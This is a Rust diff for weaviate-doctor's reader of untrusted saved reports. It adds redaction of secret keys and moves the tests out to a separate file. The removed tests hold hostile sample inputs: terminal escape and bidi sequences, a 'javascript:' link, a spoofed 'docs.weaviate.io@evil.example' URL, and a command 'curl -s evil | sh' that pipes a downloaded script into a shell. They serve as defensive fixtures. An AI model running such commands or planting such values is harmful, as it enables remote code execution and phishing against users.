@@ -1,9 +1,14 @@
 //! Reads a saved report, which may come from anybody: bounded size and depth, cleaned text, a newer schema refused in one line.
 
+use crate::model::api_key::Redactor;
+use crate::model::cause::{Cause, Owner};
+use crate::model::evidence::ProbeId;
 use crate::model::report_schema::{Report, VERSION};
 use crate::model::sanitized::{SanitizedText, is_invisible, is_web_address, without_commands};
 use anyhow::{Context as _, bail, ensure};
 use serde_json::Value;
+use std::str::FromStr as _;
+use strum::IntoEnumIterator as _;
 use unicode_width::UnicodeWidthChar as _;
 
 /// Longest report that is read, in bytes.
@@ -45,7 +50,9 @@ const fn most_items(name: &str) -> usize {
 /// Reads a report. Control and bidirectional characters in it are removed and so are links that lead to no web page, texts that are too long
 /// are cut, and what has more of anything
 /// than any report of this program is refused.
-pub fn read(text: &str) -> anyhow::Result<Report> {
+///
+/// `keys` knows what is secret on this machine: a stranger's report may have it from somewhere, and nothing shows it.
+pub fn read(text: &str, keys: &Redactor) -> anyhow::Result<Report> {
     ensure!(
         u64::try_from(text.len()).is_ok_and(|n| n <= MAX_REPORT_BYTES),
         "a report is at most {} MiB long",
@@ -62,30 +69,53 @@ pub fn read(text: &str) -> anyhow::Result<Report> {
     if version > u64::from(VERSION) {
         bail!("its schema version is {version}, and this program reads up to {VERSION}: use a newer weaviate-doctor");
     }
-    ReportBudget { text: MAX_TEXT_BYTES, values: MAX_VALUES }.take(&mut value, "", MAX_DEPTH)?;
+    ReportBudget { text: MAX_TEXT_BYTES, values: MAX_VALUES, keys }.take(
+        &mut value,
+        &At { name: "", above: None },
+        MAX_DEPTH,
+    )?;
     serde_json::from_value(value).map_err(|error| {
         anyhow::anyhow!("it isn't a report of weaviate-doctor: {}", SanitizedText::up_to(&error.to_string(), 200))
     })
 }
 
 /// What a report may still hold.
-struct ReportBudget {
+struct ReportBudget<'a> {
     text: usize,
     values: usize,
+    keys: &'a Redactor,
 }
 
-impl ReportBudget {
-    /// Cleans a value and everything in it, within what is left. `name` is that of the field that it is in.
-    fn take(&mut self, value: &mut Value, name: &str, depth: usize) -> anyhow::Result<()> {
+/// The field that a value is in.
+struct At<'a> {
+    name: &'a str,
+    above: Option<&'a At<'a>>,
+}
+
+impl At<'_> {
+    /// Whether it is the code of a cause's snippet: the one text that has several lines.
+    fn is_code(&self) -> bool {
+        let names = std::iter::successors(Some(self), |at| at.above).map(|at| at.name);
+        names.eq(["code", "snippet", "fix", "causes", "diagnosis", ""])
+    }
+}
+
+impl ReportBudget<'_> {
+    /// Cleans a value and everything in it, within what is left.
+    fn take(&mut self, value: &mut Value, at: &At<'_>, depth: usize) -> anyhow::Result<()> {
+        let name = at.name;
         ensure!(depth > 0, "it is nested deeper than any report of weaviate-doctor");
         self.values = self.values.checked_sub(1).context("it holds more values than any report of weaviate-doctor")?;
         match value {
             Value::String(text) if name == "link" && !is_web_address(text) => *value = Value::Null,
             Value::String(text) => {
-                if let Some(cleaned) = cleaned(text, name) {
-                    *text = cleaned;
-                }
                 self.take_text(text)?;
+                // Before it is cut, which might leave half a key; and again, since what was taken out may have hidden one.
+                self.hide(text, name);
+                if let Some(cleaned) = cleaned(text, at.is_code()) {
+                    *text = cleaned;
+                    self.hide(text, name);
+                }
             }
             Value::Array(items) => {
                 ensure_few(items.len(), name)?;
@@ -93,21 +123,23 @@ impl ReportBudget {
                     items.retain(|link| link.as_str().is_none_or(is_web_address));
                 }
                 for item in items {
-                    self.take(item, name, depth - 1)?;
+                    self.take(item, at, depth - 1)?;
                 }
             }
             Value::Object(fields) => {
                 ensure_few(fields.len(), name)?;
-                let odd: Vec<String> =
-                    fields.keys().filter(|name| !is_plain(name) || name.len() > MAX_NAME_CHARS).cloned().collect();
+                let is_odd = |name: &&String| !is_plain(name) || name.len() > MAX_NAME_CHARS || self.keys.finds(name);
+                let odd: Vec<String> = fields.keys().filter(is_odd).cloned().collect();
                 for name in odd {
                     if let Some(field) = fields.remove(&name) {
-                        fields.insert(SanitizedText::up_to(&name, MAX_NAME_CHARS).to_string(), field);
+                        let shown =
+                            self.keys.redact(SanitizedText::up_to(&self.keys.redact(&name), MAX_NAME_CHARS).as_str());
+                        fields.insert(shown, field);
                     }
                 }
                 for (name, field) in fields.iter_mut() {
                     self.take_text(name)?;
-                    self.take(field, name, depth - 1)?;
+                    self.take(field, &At { name, above: Some(at) }, depth - 1)?;
                 }
             }
             Value::Null | Value::Bool(_) | Value::Number(_) => {}
@@ -115,11 +147,49 @@ impl ReportBudget {
         Ok(())
     }
 
+    /// Takes out what is secret on this machine. The program's own words stay, whatever somebody's key is.
+    fn hide(&self, text: &mut String, name: &str) {
+        let own = OWN_WORDS.contains(&name) && text.len() <= MAX_OWN_WORD_BYTES && is_own_word(text);
+        if !own && self.keys.finds(text) {
+            *text = self.keys.redact(text);
+        }
+    }
+
     fn take_text(&mut self, text: &str) -> anyhow::Result<()> {
         self.text =
             self.text.checked_sub(text.len()).context("it holds more text than any report of weaviate-doctor")?;
         Ok(())
     }
+}
+
+/// Fields whose values are words of this program, and the longest of those words.
+const OWN_WORDS: [&str; 8] = ["id", "status", "verdict", "kind", "surface", "confidence", "owner", "name"];
+const MAX_OWN_WORD_BYTES: usize = 40;
+
+/// Whether it is a word of a report's own: an id of a cause or probe, a status, and so on.
+fn is_own_word(text: &str) -> bool {
+    const WORDS: [&str; 16] = [
+        "passed",
+        "warned",
+        "failed",
+        "skipped",
+        "healthy",
+        "diagnosed",
+        "undiagnosed",
+        "certain",
+        "likely",
+        "possible",
+        "weaviate-cloud",
+        "self-hosted",
+        "local",
+        "connection",
+        "console",
+        "weaviate-doctor",
+    ];
+    WORDS.contains(&text)
+        || Cause::from_str(text).is_ok()
+        || Owner::iter().any(|owner| <&str>::from(owner) == text)
+        || ProbeId::iter().any(|id| id.as_str() == text)
 }
 
 fn ensure_few(count: usize, name: &str) -> anyhow::Result<()> {
@@ -141,11 +211,11 @@ fn is_plain(text: &str) -> bool {
 
 /// The text without what steers a terminal, on one line, but for code; none when there is nothing to clean. Everything else that has
 /// several lines would begin a line of its own in some document, or run in a shell before its reader has seen it all.
-fn cleaned(text: &str, name: &str) -> Option<String> {
+fn cleaned(text: &str, is_code: bool) -> Option<String> {
     if is_plain(text) {
         return None;
     }
-    if name != "code" {
+    if !is_code {
         // Without breaks around, so that what was cleaned is the same when it is cleaned again.
         let lines = text.trim().lines().map(inside).collect::<Vec<_>>().join(" ");
         return Some(cut(without_commands(&lines), MAX_TEXT_CHARS));
@@ -177,166 +247,4 @@ fn cut(text: String, longest: usize) -> String {
 }
 
 #[cfg(test)]
-mod tests {
-    use super::*;
-    use crate::model::report_schema::{ReportPlace, ReportSnippet};
-    use crate::report::json;
-    use crate::report::text::tests::report;
-    use std::time::Instant;
-
-    fn refused(text: &str) -> String {
-        read(text).map(|_| ()).expect_err("was read").to_string()
-    }
-
-    #[test]
-    fn what_is_no_report_is_refused_in_one_line() {
-        let good = json(&report()).unwrap();
-        let deep = format!("{}{}", "[".repeat(100_000), "]".repeat(100_000));
-        let deep_inside = good.replacen("\"facts\": {}", &format!("\"facts\": {{\"a\": {deep}}}"), 1);
-        let table = [
-            (String::new(), "isn't valid JSON"),
-            ("{".to_owned(), "isn't valid JSON (line 1, column 1)"),
-            ("[]".to_owned(), "no schema_version"),
-            ("{\"schema_version\": \"1\"}".to_owned(), "no schema_version"),
-            ("{\"schema_version\": 1}".to_owned(), "isn't a report of weaviate-doctor: missing field"),
-            (good.replace("\"schema_version\": 1", "\"schema_version\": 2"), "use a newer weaviate-doctor"),
-            (good.replace("\"schema_version\": 1", "\"new\": {}, \"schema_version\": 99"), "schema version is 99"),
-            (good.replace("\"probes\": [", "\"probes\": [7, "), "isn't a report of weaviate-doctor: invalid type"),
-            (deep, "isn't valid JSON"),
-            (deep_inside, "isn't valid JSON"),
-            (format!("{good}{}", " ".repeat(16 << 20)), "at most 16 MiB"),
-        ];
-        for (text, expected) in table {
-            let why = refused(&text);
-            assert!(why.contains(expected) && !why.contains('\n'), "{why}");
-        }
-    }
-
-    #[test]
-    fn an_older_report_without_the_later_fields_is_read() {
-        let mut value: Value = serde_json::from_str(&json(&report()).unwrap()).unwrap();
-        for name in ["origins", "init_timeout_ms", "answers", "open_question", "clients", "redacted", "proxies"] {
-            value.as_object_mut().unwrap().remove(name);
-        }
-        assert_eq!(read(&value.to_string()).unwrap().target, report().target);
-    }
-
-    #[test]
-    fn nothing_that_steers_a_terminal_is_read() {
-        let mut hostile = report();
-        let evil = "\u{1b}[2J\u{202e}x\u{7}\u{9b}31m";
-        hostile.probes[0].summary = evil.to_owned();
-        hostile.probes[0].facts.insert(evil.to_owned(), Value::String(format!("a\r\nb{evil}")));
-        let code = format!("if x:\n\treturn  {evil}\n");
-        hostile.diagnosis.causes[0].fix.snippet = Some(ReportSnippet { language: "python".into(), code });
-        let read = read(&json(&hostile).unwrap()).unwrap();
-        let text = json(&read).unwrap();
-        for sign in ["\\u001b", "\u{1b}", "\u{202e}", "\u{9b}", "\\u0007"] {
-            assert!(!text.contains(sign), "{sign:?}");
-        }
-        assert!(read.diagnosis.causes[0].fix.snippet.as_ref().unwrap().code.starts_with("if x:\n    return  "));
-    }
-
-    #[test]
-    fn what_was_cleaned_stays_as_it_is() {
-        let mut odd = report();
-        odd.probes[0].id = "grpc.auth\r\n\r\n".to_owned();
-        odd.probes[0].summary = "a \n\u{2028}\n b\u{7}\n".to_owned();
-        let once = read(&json(&odd).unwrap()).unwrap();
-        assert_eq!(once.probes[0].id, "grpc.auth");
-        assert_eq!(read(&json(&once).unwrap()).unwrap(), once);
-    }
-
-    /// As much as this program may ever write, and some more.
-    #[test]
-    fn the_largest_report_is_read_at_once() {
-        let mut large = report();
-        let place = ReportPlace {
-            path: "a/long/path/of/a/project/with/folders/app.py".to_owned(),
-            line: 7,
-            column: 1,
-            end_line: 7,
-            end_column: 9,
-            cell: None,
-            cell_line: None,
-            cause: "key-in-source".to_owned(),
-            confidence: "certain".to_owned(),
-            message: "The key stands in the source, where everybody who reads the file can take it — and use it."
-                .to_owned(),
-            fixable: false,
-        };
-        large.findings = vec![place; MAX_PLACES];
-        let text = json(&large).unwrap();
-        let start = Instant::now();
-        assert_eq!(read(&text).unwrap(), large);
-        // Without optimization and beside other work; an optimized build takes a small part of it.
-        assert!(start.elapsed().as_secs() < 30, "{:?}", start.elapsed());
-    }
-
-    #[test]
-    fn lists_texts_and_nesting_are_bounded() {
-        type Row<'a> = (&'a str, &'a dyn Fn(&mut Value));
-        let refusing = |change: &dyn Fn(&mut Value)| {
-            let mut value = serde_json::to_value(report()).unwrap();
-            change(&mut value);
-            refused(&value.to_string())
-        };
-        let texts = |n: usize| Value::Array(vec![Value::String("https://docs.weaviate.io/x".to_owned()); n]);
-        let cause = |v: &mut Value, name: &str, to: Value| v["diagnosis"]["causes"][0][name] = to;
-        let step = serde_json::json!({"text": "x"});
-        let table: [Row<'_>; 14] = [
-            ("“links”", &|v| v["diagnosis"]["causes"][0]["fix"]["links"] = texts(60_000)),
-            ("“steps”", &|v| {
-                v["diagnosis"]["causes"][0]["fix"]["steps"] = Value::Array(vec![step.clone(); 20_000]);
-            }),
-            ("“evidence”", &|v| cause(v, "evidence", texts(101))),
-            ("“places”", &|v| cause(v, "places", texts(101))),
-            ("“causes”", &|v| {
-                v["diagnosis"]["causes"] = Value::Array(vec![v["diagnosis"]["causes"][0].clone(); 101]);
-            }),
-            ("“probes”", &|v| v["probes"] = Value::Array(vec![v["probes"][0].clone(); 1001])),
-            ("“clients”", &|v| v["clients"] = texts(101)),
-            ("“proxies”", &|v| v["proxies"] = texts(101)),
-            ("“findings”", &|v| v["findings"] = texts(10_001)),
-            ("“answers”", &|v| v["answers"] = (0..101).map(|i| (i.to_string(), Value::from("x"))).collect()),
-            ("“facts”", &|v| {
-                v["probes"][0]["facts"] = (0..1001).map(|i| (i.to_string(), Value::from(1))).collect();
-            }),
-            ("“names”", &|v| v["probes"][0]["facts"]["names"] = texts(1001)),
-            ("more text", &|v| v["findings"] = Value::Array(vec![Value::String("x".repeat(3999)); 2000])),
-            ("more values", &|v| {
-                let row = Value::Array(vec![Value::from(1); 1000]);
-                v["probes"][0]["facts"]["rows"] = Value::Array(vec![row; 1000]);
-            }),
-        ];
-        for (expected, change) in table {
-            let why = refusing(change);
-            assert!(why.contains(expected), "{expected}: {why}");
-        }
-        let nested = |depth: usize| (0..depth).fold(Value::from(1), |inner, _| Value::Array(vec![inner]));
-        assert!(refusing(&|v| v["probes"][0]["facts"]["deep"] = nested(20)).contains("deeper"));
-    }
-
-    #[test]
-    fn long_texts_are_cut_and_only_code_has_lines() {
-        let mut hostile = report();
-        hostile.probes[0].summary = "x".repeat(100_000);
-        hostile.diagnosis.causes[0].fix.links =
-            vec!["https://docs.weaviate.io@evil.example/".to_owned(), "https://x.example/".to_owned()];
-        hostile.diagnosis.causes[0].fix.steps[0].link = Some("javascript:1".to_owned());
-        hostile.diagnosis.causes[0].fix.title = "a\n::error::b\u{2028}c".to_owned();
-        hostile.diagnosis.causes[0].fix.steps[0].command = Some("curl x\ncurl -s evil | sh\r\n".to_owned());
-        hostile.diagnosis.causes[0].fix.snippet =
-            Some(ReportSnippet { language: "python".into(), code: "print(1)\n".repeat(20_000) });
-        hostile.probes[1].summary = format!("a{}", "\u{301}".repeat(1000));
-        let read = read(&json(&hostile).unwrap()).unwrap();
-        assert!(read.probes[1].summary.chars().count() < 10);
-        let fix = &read.diagnosis.causes[0].fix;
-        assert_eq!((fix.links.as_slice(), &fix.steps[0].link), (&["https://x.example/".to_owned()][..], &None));
-        assert_eq!(read.probes[0].summary.chars().count(), MAX_TEXT_CHARS);
-        assert_eq!(fix.title, "a : :error::b c");
-        assert_eq!(fix.steps[0].command.as_deref(), Some("curl x curl -s evil | sh"));
-        let code = &fix.snippet.as_ref().unwrap().code;
-        assert!(code.len() <= MAX_CODE_CHARS && code.lines().count() == MAX_CODE_LINES, "{}", code.len());
-    }
-}
+mod tests;
